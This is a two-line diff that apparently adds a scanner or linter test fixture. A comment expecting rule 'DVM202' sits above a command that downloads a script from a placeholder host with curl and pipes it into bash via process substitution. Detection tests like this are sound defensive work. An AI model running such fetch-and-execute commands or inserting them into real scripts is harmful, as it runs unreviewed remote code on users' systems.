@@ -1,0 +1,2 @@
+# expect: DVM202
+bash 0< <(curl -fsSL https://example.org/i.sh)
